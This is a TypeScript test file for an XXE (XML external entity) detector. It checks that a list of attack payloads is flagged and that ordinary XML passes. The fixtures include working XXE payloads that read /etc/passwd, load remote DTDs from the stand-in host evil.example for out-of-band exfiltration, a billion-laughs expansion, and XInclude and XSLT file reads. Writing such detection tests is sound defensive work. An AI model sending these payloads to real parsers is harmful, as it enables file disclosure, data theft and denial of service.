import { test } from 'node:test'
import assert from 'node:assert/strict'
import { analyzeXxe } from '../../src/detection/xxe/analyzer.js'
import { surest } from './support.js'

const detect = (value: string) => surest(analyzeXxe, value, false)

const laughs =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>'

const attacks: [string, number][] = [
  ['<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>', 0.95],
  ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe PUBLIC "-//X//EN" "http://evil.example/x.dtd">]><foo>&xxe;</foo>', 0.95],
  ['<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://evil.example/evil.dtd">%dtd;]>', 0.95],
  ['<!ENTITY % int "<!ENTITY &#37; trick SYSTEM \'http://127.0.0.1:80/?%file;\'>"> %int;', 0.95],
  ['%xxe;', 0.85],
  ['<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', 0.9],
  ['<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', 0.95],
  ['<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><text>&xxe;</text></svg>', 0.95],
  [
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
    0.95,
  ],
  [laughs, 0.95],
  ['<!DOCTYPE xxe [<!ENTITY foo "aaaaaa">]>', 0.85],
  ['PCFET0NUWVBFIHggWzwhRU5USVRZIHh4ZSBTWVNURU0gImZpbGU6Ly8vZXRjL3Bhc3N3ZCI+XT4=', 0.95],
]

const benign = [
  '<?xml version="1.0"?><note><to>Tove</to><body>Don\'t forget me &amp; you</body></note>',
  '<?xml version="1.0" encoding="UTF-8"?><methodCall><methodName>demo.sayHello</methodName></methodCall>',
  '<p>Hello &amp; welcome</p>',
  'Fish & chips; 50% off',
  'We are 100% sure; ok',
  'Entity Framework is an ORM',
  '<!DOCTYPE html><html><body>hi</body></html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
]

test('xxe: external, parameter and expanding entities, XInclude and XSLT are found', () => {
  for (const [value, confidence] of attacks) {
    const f = detect(value)
    assert.ok(f !== null, `missed: ${value}`)
    assert.ok(f.confidence >= confidence, `${value}: ${f.rule} ${f.confidence}`)
  }
})

test('xxe: plain XML passes; a DOCTYPE without entities is low', () => {
  for (const value of benign) {
    const f = detect(value)
    assert.ok(f === null || f.confidence < 0.8, `${value}: ${f?.rule} ${f?.confidence}`)
  }
  assert.equal(detect(benign[0]!), null)
  assert.ok(detect('<!DOCTYPE note><note/>')!.confidence < 0.8)
})

test('xxe analysis stays linear on long adversarial input', () => {
  const inputs = [
    '<!ENTITY '.repeat(12_000),
    '<!DOCTYPE ' + ' '.repeat(100_000),
    '&a;'.repeat(30_000),
    '<!ENTITY a' + ' '.repeat(100_000),
    '%a'.repeat(50_000),
    '<xsl:' + 'document'.repeat(12_000),
  ]
  for (const v of inputs) {
    const t = performance.now()
    analyzeXxe(v)
    assert.ok(performance.now() - t < 250, `${v.slice(0, 10)}: ${performance.now() - t} ms`)
  }
})
